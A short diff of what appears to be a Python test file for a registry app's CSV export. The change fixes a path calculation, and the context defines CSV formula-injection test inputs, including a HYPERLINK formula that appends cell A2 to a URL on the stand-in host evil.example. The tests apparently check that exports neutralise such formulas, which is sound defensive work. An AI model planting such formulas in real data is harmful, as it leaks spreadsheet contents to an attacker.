@@ -18,7 +18,7 @@ from registry.formatting import CsvWriter
 from registry.providers.models import ServiceType
 from tests.conftest import PASSWORD, signed_in
 
-REGISTRY = Path(__file__).resolve().parent.parent / "registry"
+REGISTRY = Path(__file__).resolve().parents[2] / "registry"
 # An address the app's own forms accept (= is allowed before the @), and a service name an admin may type.
 FORMULA_EMAIL = "=cmd@example.com"
 FORMULA_SERVICE = '=HYPERLINK("https://evil.example/?d="&A2,"Cleaning")'
